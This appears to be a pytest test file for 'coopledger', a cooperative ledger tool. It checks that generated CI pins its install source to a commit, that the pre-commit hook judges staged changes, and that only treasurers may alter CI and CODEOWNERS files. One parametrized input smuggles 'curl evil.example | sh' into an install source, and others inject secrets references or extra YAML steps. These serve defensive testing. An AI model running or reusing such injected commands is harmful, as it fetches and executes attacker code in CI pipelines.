"""What `coopledger ci` writes, attacked: where the CI installs coopledger from,
what the pre-commit hook judges, and the files that decide what CI runs.

- The CI installs coopledger from code pinned to one commit, or refuses to be
  written: never `coopledger==0.1.0` from a package index, where whoever
  publishes that name first would run their code in every cooperative's CI.
- The pre-commit hook (`coopledger check --staged`) judges what is staged, the
  commit about to be made: an untracked file or an unstaged edit can neither
  offset nor hide a staged bad trade.
- Only a treasurer changes a CI file of any platform, `.gitattributes` in any
  folder, or a CODEOWNERS file: a member's pull request that does is refused by
  `coopledger check --since` on a fresh clone, as the CI runs it.
"""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from coopledger.founding import ci_templates
from coopledger.review.gate import PROTECTED_FILES, PROTECTED_FOLDERS, PROTECTED_NAMES
from tests.conftest import Coop

ALICE = ("Alice Martin", "alice@example.org")
TRESA = ("Trésorière", "tresa@example.org")
COMMIT = "0123456789abcdef0123456789abcdef01234567"
PINNED = f"git+https://example.org/coop/coopledger@{COMMIT}"
WORKFLOW = ".github/workflows/coopledger.yml"
BIN = Path(sys.executable).parent


def commit_as(coop: Coop, who: tuple[str, str], message: str = "change") -> str:
    coop.git("add", "-A")
    coop.git("-c", f"user.name={who[0]}", "-c", f"user.email={who[1]}", "commit", "-qm", message)
    return coop.git("rev-parse", "HEAD").strip()


def trade(day: str, payer: str, payee: str, amount: str) -> str:
    return (
        f'\n{day} * "by hand"\n'
        f"  Assets:Members:{payer.capitalize()}  -{amount} SEL\n"
        f"  Assets:Members:{payee.capitalize()}   {amount} SEL\n"
    )


def assert_nothing_written(coop: Coop, log: list[str]) -> None:
    assert coop.log() == log
    assert coop.status() == ""
    assert not (coop.root / WORKFLOW).exists()
    assert not (coop.root / ".pre-commit-config.yaml").exists()


# ---------------------------------------------------------------- where the CI installs from

FIX = (
    "nothing was written; pass --source with a VCS URL pinned to a commit, e.g. --source "
    "git+https://example.org/coop/coopledger@COMMIT"
)


def test_an_editable_install_names_no_commit_so_ci_is_refused_without_source(coop: Coop) -> None:
    log = coop.log()

    result = coop.run("ci", "github")

    assert result.code == 1
    said = result.err.replace("\n", " ")
    # run from this project's folder: the editable install (or the folder itself, on
    # PYTHONPATH); neither names a commit the CI could fetch
    assert re.match(
        r"error: this coopledger (runs from the folder|was installed from) file://", said
    )
    assert "which the CI cannot reach" in said
    assert FIX in said
    assert_nothing_written(coop, log)


@pytest.mark.parametrize(
    ("source", "words"),
    [
        ("coopledger==0.1.0", "is no source the CI can install coopledger from"),
        ("coopledger", "is no source the CI can install coopledger from"),
        ("/home/tresa/coopledger", "is no source the CI can install coopledger from"),
        ("git+https://example.org/coop/coopledger", "is not pinned to exact code"),
        ("git+https://example.org/coop/coopledger@main", "is not pinned to exact code"),
        ("git+https://example.org/coop/coopledger@v0.1.0", "is not pinned to exact code"),
        ("git+https://example.org/coop/coopledger@0123456", "is not pinned to exact code"),
        ("https://example.org/coopledger-0.1.0.tar.gz", "is not pinned to exact code"),
        (f'{PINNED}"; curl evil.example | sh; echo "', "is no source the CI can install"),
        (PINNED + "${{ secrets.TOKEN }}", "is no source the CI can install coopledger from"),
        (PINNED + "\nrun: evil", "is no source the CI can install coopledger from"),
        (
            f"git+https://tresa:hunter2@example.org/coop/coopledger@{COMMIT}",
            "holds a password, which would be committed in the CI file",
        ),
    ],
)
def test_a_source_that_pins_no_code_or_breaks_out_of_the_file_is_refused(
    coop: Coop, source: str, words: str
) -> None:
    log = coop.log()

    result = coop.run("ci", "github", "--source", source)

    assert result.code == 1, result.text
    assert result.err.startswith("error: "), result.text
    assert words in result.err.replace("\n", " ")
    assert "hunter2" not in result.text
    assert_nothing_written(coop, log)


@pytest.mark.parametrize(
    ("record", "words"),
    [
        (None, "this coopledger (0.1.0) was installed from a package index"),
        (
            {"url": "https://example.org/coop/coopledger", "vcs_info": {"vcs": "git"}},
            "https://example.org/coop/coopledger is not pinned to exact code",
        ),
        (
            {
                "url": "https://example.org/coop/coopledger",
                "vcs_info": {"vcs": "git", "commit_id": "main", "requested_revision": "main"},
            },
            "is not pinned to exact code",
        ),
        (
            {"url": "file:///home/tresa/coopledger", "dir_info": {"editable": True}},
            "runs from the folder file:///home/tresa/coopledger (an editable install)",
        ),
        (
            {"url": "file:///home/tresa/coopledger", "dir_info": {}},
            "was installed from file:///home/tresa/coopledger, on this machine",
        ),
        (
            {
                "url": "file:///home/tresa/coopledger",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
            },
            "was installed from file:///home/tresa/coopledger, on this machine",
        ),
    ],
)
def test_an_install_that_pins_no_code_the_ci_can_reach_is_refused(
    coop: Coop, monkeypatch: pytest.MonkeyPatch, record: dict[str, Any] | None, words: str
) -> None:
    monkeypatch.setattr(ci_templates, "_direct_url", lambda: record)
    log = coop.log()

    result = coop.run("ci", "gitlab")

    assert result.code == 1
    assert words in result.err.replace("\n", " ")
    assert not (coop.root / ".gitlab-ci.yml").exists()
    assert_nothing_written(coop, log)


@pytest.mark.parametrize(
    ("record", "source"),
    [
        (
            {
                "url": "https://example.org/coop/coopledger",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "v0.1.0"},
            },
            PINNED,
        ),
        (
            {
                "url": "https://example.org/coopledger-0.1.0.tar.gz",
                "archive_info": {"hashes": {"sha256": "ab" * 32}},
            },
            "https://example.org/coopledger-0.1.0.tar.gz#sha256=" + "ab" * 32,
        ),
    ],
)
def test_the_ci_installs_from_where_this_coopledger_was_installed_when_that_pins_it(
    coop: Coop, monkeypatch: pytest.MonkeyPatch, record: dict[str, Any], source: str
) -> None:
    monkeypatch.setattr(ci_templates, "_direct_url", lambda: record)

    assert coop.run("ci", "github").code == 0

    workflow = yaml.safe_load(coop.read(WORKFLOW))
    assert workflow["jobs"]["check"]["env"]["COOPLEDGER"] == source
    assert "coopledger==" not in coop.read(WORKFLOW)


def test_init_with_ci_refuses_an_unpinned_source_before_creating_anything(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    root = tmp_path / "sel"
    coop = Coop(root, capsys)

    result = coop.run("init", str(root), "--treasurer", "tresa", "--email", "t@example.org",
                      "--ci", "github", "--ci-source", "coopledger==0.1.0")  # fmt: skip

    assert result.code == 1
    assert "pass --ci-source with a VCS URL pinned to a commit" in result.err.replace("\n", " ")
    assert not root.exists()


def _project_clone(tmp_path: Path) -> tuple[Path, str]:
    """A clone of this project's git repository, and its HEAD commit."""
    here = Path(__file__).resolve().parent.parent
    found = subprocess.run(
        ["git", "rev-parse", "--show-toplevel"], cwd=here, capture_output=True, text=True
    )
    if found.returncode != 0 or Path(found.stdout.strip()) != here:
        pytest.skip("the tests do not run from coopledger's own git repository")
    clone = tmp_path / "coopledger-src"
    subprocess.run(["git", "clone", "--quiet", str(here), str(clone)], check=True)
    head = subprocess.run(
        ["git", "rev-parse", "HEAD"], cwd=clone, capture_output=True, text=True, check=True
    )
    return clone, head.stdout.strip()


@pytest.mark.slow
def test_the_install_step_of_the_written_ci_installs_a_coopledger_that_runs(
    coop: Coop, tmp_path: Path
) -> None:
    """Slow (a fresh virtual environment, coopledger built from git, its dependencies
    installed): the install line of the workflow, run as the CI runs it."""
    clone, head = _project_clone(tmp_path)
    assert coop.run("ci", "github", "--source", f"git+file://{clone}@{head}").code == 0
    job = yaml.safe_load(coop.read(WORKFLOW))["jobs"]["check"]
    install = next(step["run"] for step in job["steps"] if step.get("name") == "install coopledger")
    assert install == ci_templates.INSTALL_COMMAND
    gitlab = yaml.safe_load(
        ci_templates.ci_files("gitlab", job["env"]["COOPLEDGER"])[".gitlab-ci.yml"]
    )
    assert gitlab["coopledger"]["script"][0] == install  # the same line, the same variable
    assert gitlab["coopledger"]["variables"]["COOPLEDGER"] == job["env"]["COOPLEDGER"]
    venv = tmp_path / "ci-venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    env = {
        **os.environ,
        "PATH": f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}",
        "VIRTUAL_ENV": str(venv),
        "COOPLEDGER": job["env"]["COOPLEDGER"],
    }

    done = subprocess.run(["bash", "-c", install], env=env, capture_output=True, text=True)

    assert done.returncode == 0, done.stderr[-3000:]
    helped = subprocess.run(
        [str(venv / "bin" / "coopledger"), "--help"], capture_output=True, text=True, env=env
    )
    assert helped.returncode == 0, helped.stderr
    assert "Usage: coopledger" in helped.stdout
    # and it is the commit asked for, recorded by pip (what `coopledger ci` would reuse)
    record = "import importlib.metadata as m; print(m.distribution('coopledger').read_text("
    record += "'direct_url.json'))"
    recorded = subprocess.run(
        [str(venv / "bin" / "python"), "-c", record],
        cwd=tmp_path,  # not this project's folder, whose coopledger.egg-info says nothing
        capture_output=True,
        text=True,
        check=True,
    )
    assert head in recorded.stdout
    # that install, asked to write a CI itself, finds its own commit but on a file:// URL
    again = subprocess.run(
        [str(venv / "bin" / "coopledger"), "--dir", str(coop.root), "ci", "gitlab"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        env=env,
    )
    assert again.returncode == 1
    assert f"was installed from file://{clone}, on this machine" in again.stderr.replace("\n", "")


# ---------------------------------------------------------------- the pre-commit hook


def hook_args(coop: Coop) -> list[str]:
    """The hook's command, as `.pre-commit-config.yaml` says, without `coopledger`."""
    hook = yaml.safe_load(coop.read(".pre-commit-config.yaml"))["repos"][0]["hooks"][0]
    words = hook["entry"].split()
    assert words[0] == "coopledger"
    return words[1:]


def as_alice(coop: Coop) -> None:
    coop.git("config", "user.name", ALICE[0])
    coop.git("config", "user.email", ALICE[1])


def test_the_hook_refuses_a_staged_bad_trade_that_an_untracked_file_offsets(coop: Coop) -> None:
    assert coop.run("ci", "github", "--source", PINNED).code == 0
    as_alice(coop)
    coop.append("journal/2026/11/alice.beancount", trade("2026-11-10", "alice", "bob", "600.00"))
    coop.git("add", "journal/2026/11/alice.beancount")  # alice would be at -600, floor -500
    coop.write("journal/2026/11/offset.beancount", trade("2026-11-09", "bob", "alice", "200.00"))

    result = coop.run(*hook_args(coop))

    assert result.code == 1, result.text
    assert "alice's balance would be -600.00 SEL at the end of 2026-11-10, below its floor" in (
        result.text
    )
    assert "journal/2026/11/alice.beancount:" in result.text
    assert "offset.beancount" not in result.text  # not staged: not judged


def test_the_hook_refuses_a_staged_bad_trade_an_unstaged_edit_hides(coop: Coop) -> None:
    assert coop.run("ci", "gitlab", "--source", PINNED).code == 0
    as_alice(coop)
    before = coop.read("members.yaml")
    path = "journal/2026/11/alice.beancount"
    coop.append(path, trade("2026-11-10", "alice", "bob", "600.00"))
    coop.git("add", path)
    (coop.root / path).unlink()  # the working tree no longer has it; the commit would

    result = coop.run(*hook_args(coop))

    assert result.code == 1, result.text
    assert "below its floor of -500.00 SEL" in result.text
    assert coop.read("members.yaml") == before


def test_the_hook_judges_who_makes_the_staged_change_not_the_working_tree(coop: Coop) -> None:
    assert coop.run("ci", "github", "--source", PINNED).code == 0
    as_alice(coop)
    path = "journal/2026/11/alice.beancount"
    coop.append(path, trade("2026-11-10", "bob", "alice", "5.00"))  # bob's units, by alice
    coop.git("add", path)
    (coop.root / path).unlink()  # the working tree shows no change at all

    result = coop.run(*hook_args(coop))

    assert result.code == 1, result.text
    assert (
        f"{path}:2: error: commit working tree by Alice Martin <alice@example.org> adds an "
        "entry that takes units from bob's account"
    ) in result.text.replace("\n", " ")


def test_the_hook_passes_a_good_staged_trade_whatever_is_untracked(coop: Coop) -> None:
    assert coop.run("ci", "github", "--source", PINNED).code == 0
    as_alice(coop)
    coop.append("journal/2026/11/alice.beancount", trade("2026-11-10", "alice", "bob", "5.00"))
    coop.git("add", "journal/2026/11/alice.beancount")
    coop.write("journal/2026/11/draft.beancount", trade("2026-11-10", "bob", "alice", "900.00"))

    result = coop.run(*hook_args(coop))

    assert result.code == 0, result.text
    assert result.out.startswith("ok: 4 members, 1 trade,")


def test_a_real_git_commit_runs_the_hook_on_what_it_commits(coop: Coop) -> None:
    """git itself runs the hook (as pre-commit's shim does), with the index of the commit."""
    assert coop.run("ci", "github", "--source", PINNED).code == 0
    hook = coop.root / ".git" / "hooks" / "pre-commit"
    words = " ".join(hook_args(coop))
    hook.write_text(f"#!/bin/sh\nexec '{BIN / 'coopledger'}' {words}\n", encoding="utf-8")
    hook.chmod(hook.stat().st_mode | stat.S_IXUSR)
    as_alice(coop)
    log = coop.log()
    coop.append("journal/2026/11/alice.beancount", trade("2026-11-10", "alice", "bob", "600.00"))
    coop.git("add", "journal/2026/11/alice.beancount")
    coop.write("journal/2026/11/offset.beancount", trade("2026-11-09", "bob", "alice", "200.00"))

    refused = subprocess.run(["git", "commit", "-qm", "x"], cwd=coop.root, capture_output=True)

    assert refused.returncode != 0
    assert b"below its floor" in refused.stdout + refused.stderr
    assert coop.log() == log
    (coop.root / "journal/2026/11/offset.beancount").unlink()
    coop.git("reset", "-q")
    coop.write("journal/2026/11/alice.beancount", trade("2026-11-10", "alice", "bob", "6.00"))
    coop.git("add", "journal/2026/11/alice.beancount")
    coop.git("commit", "-qm", "a good trade")
    assert coop.log()[0] == "a good trade"
    coop.append("journal/2026/11/alice.beancount", trade("2026-11-11", "alice", "bob", "600.00"))
    refused = subprocess.run(["git", "commit", "-qam", "x"], cwd=coop.root, capture_output=True)
    assert refused.returncode != 0  # `commit -a`: git hands the hook the index it commits
    assert b"below its floor" in refused.stdout + refused.stderr
    assert coop.log()[0] == "a good trade"


def test_staged_and_rev_together_are_refused(coop: Coop) -> None:
    result = coop.run("check", "--staged", "--rev", "HEAD")

    assert result.code == 1
    assert "--staged and --rev cannot be used together" in result.err


# ---------------------------------------------------------------- protected files

PROTECTED = [
    ".gitattributes",
    "journal/.gitattributes",
    "journal/2026/11/.gitattributes",
    "docs/.gitattributes",
    ".GitAttributes",
    ".pre-commit-config.yaml",
    ".github/workflows/coopledger.yml",
    ".github/CODEOWNERS",
    ".gitlab-ci.yml",
    ".gitlab/CODEOWNERS",
    ".gitea/workflows/coopledger.yml",
    ".forgejo/workflows/coopledger.yml",
    "CODEOWNERS",
    "docs/CODEOWNERS",
    ".circleci/config.yml",
    ".woodpecker.yml",
    ".woodpecker/check.yml",
    ".drone.yml",
    ".travis.yml",
    ".buildkite/pipeline.yml",
    ".builds/check.yml",
    ".build.yml",
    "appveyor.yml",
    "azure-pipelines.yml",
    "bitbucket-pipelines.yml",
    "Jenkinsfile",
]


@pytest.mark.parametrize("path", PROTECTED)
def test_a_members_branch_changing_a_file_that_decides_what_ci_runs_is_refused(
    coop: Coop, tmp_path: Path, capsys: pytest.CaptureFixture[str], path: str
) -> None:
    coop.write(path, "# kept by the treasurers\n")
    commit_as(coop, TRESA, f"add {path}")
    base = coop.git("rev-parse", "HEAD").strip()
    coop.git("switch", "-qc", "pr")
    coop.append(path, "# changed in a pull request\n")
    sha = commit_as(coop, ALICE)
    clone = tmp_path / "ci-clone"
    subprocess.run(["git", "clone", "--quiet", str(coop.root), str(clone)], check=True)

    result = Coop(clone, capsys).run("check", "--since", base)

    assert result.code == 1, result.text
    first = result.out.splitlines()[0]
    if path.startswith("journal/"):  # no file but a journal file under journal/, by anyone
        assert first.startswith(f"{path}: error: commit {sha[:8]} by Alice Martin"), first
        assert "no visible .beancount file" in first
        return
    assert first == (
        f"{path}:2: error: commit {sha[:8]} by Alice Martin <alice@example.org> changes a file "
        "only a treasurer may change; leave this file out of your change, or ask a treasurer "
        "to make it"
    )


def test_the_treasurer_may_change_them(coop: Coop, tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    base = coop.git("rev-parse", "HEAD").strip()
    coop.git("switch", "-qc", "pr")
    for path in PROTECTED:
        if not path.startswith("journal/"):  # under journal/, journal files only, for anyone
            coop.write(path, "# kept by the treasurers\n")
    commit_as(coop, TRESA)

    result = coop.run("check", "--since", base)

    assert result.code == 0, result.text


def test_the_hook_runs_for_every_file_the_gate_protects() -> None:
    paths = [
        *PROTECTED,
        *PROTECTED_FILES,
        *(folder + "x.yml" for folder in PROTECTED_FOLDERS),
        *(f"journal/2026/{name}" for name in PROTECTED_NAMES),
        "journal/2026/11/alice.beancount",
    ]
    for path in paths:
        assert re.search(ci_templates.HOOK_FILES, path), path
    assert not re.search(ci_templates.HOOK_FILES, "README.md")


def test_staged_check_carries_closed_months_as_on_a_fresh_clone(coop: Coop) -> None:
    assert (
        coop.run("trade", "alice", "bob", "30", "--date", "2026-10-14", "--as", "alice").code == 0
    )
    assert coop.run("close", "2026-10", "--as", "tresa").code == 0
    as_alice(coop)
    coop.append("journal/2026/11/alice.beancount", trade("2026-11-10", "alice", "bob", "5.00"))
    coop.git("add", "journal/2026/11/alice.beancount")

    result = coop.run("check", "--staged")

    assert result.code == 0, result.text
    assert "Months up to 2026-10 are closed and unchanged" in result.out
    assert result.out.splitlines()[-1].startswith("ok: 4 members, 2 trades")


def test_the_workflow_runs_every_action_at_a_commit_not_a_tag_that_can_move(coop: Coop) -> None:
    assert coop.run("ci", "github", "--source", PINNED).code == 0

    steps = yaml.safe_load(coop.read(WORKFLOW))["jobs"]["check"]["steps"]

    actions = [step["uses"] for step in steps if "uses" in step]
    assert len(actions) == 2
    for action in actions:
        assert re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", action), action
    checkout = next(step for step in steps if step.get("uses", "").startswith("actions/checkout"))
    assert checkout["with"]["persist-credentials"] is False


def test_staged_with_since_judges_the_commits_and_what_is_staged(coop: Coop) -> None:
    base = coop.git("rev-parse", "HEAD").strip()
    coop.git("switch", "-qc", "pr")
    coop.append("journal/2026/11/alice.beancount", trade("2026-11-10", "bob", "alice", "5.00"))
    sha = commit_as(coop, ALICE)  # bob's units, by alice: refused
    as_alice(coop)
    coop.append("journal/2026/11/alice.beancount", trade("2026-11-11", "bob", "alice", "7.00"))
    coop.git("add", "-A")
    coop.write("journal/2026/11/untracked.beancount", trade("2026-11-11", "bob", "alice", "9.00"))

    result = coop.run("check", "--staged", "--since", base)

    assert result.code == 1
    lines = [line for line in result.out.splitlines() if "takes units from bob's account" in line]
    assert [line.split(" by ")[0] for line in lines] == [
        f"journal/2026/11/alice.beancount:2: error: commit {sha[:8]}",
        "journal/2026/11/alice.beancount:6: error: commit working tree",
    ]
